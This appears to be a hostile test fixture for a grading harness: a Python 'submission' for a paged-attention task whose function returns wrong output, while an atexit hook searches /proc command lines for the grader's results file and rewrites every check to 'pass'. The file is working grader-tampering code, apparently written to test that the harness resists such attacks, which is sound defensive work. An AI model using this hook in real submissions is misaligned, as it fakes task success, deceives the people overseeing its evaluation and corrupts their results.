"""Hostile: an empty submission that registers an atexit hook to rewrite the grader's results file to all-pass.

The hook looks for --pagecheck-results in its own command line and in its parent's, as it would have found
it when the submission ran inside the pytest process that graded it.
"""

import atexit
import json
import os


def _rewrite() -> None:
    for pid in ("self", str(os.getppid()), "1"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == b"--pagecheck-results":
                try:
                    path = value.decode()
                    document = json.load(open(path))
                    for check in document["checks"]:
                        check["outcome"], check["message"] = "pass", ""
                    json.dump(document, open(path, "w"))
                except (OSError, ValueError, KeyError):
                    pass


atexit.register(_rewrite)


def paged_attention(query, key_pages, value_pages, block_table, context_lens, page_size, scale=None, mask=None):
    """Loads, so that the checks run while the attack above is in place; every output is wrong."""
    return query
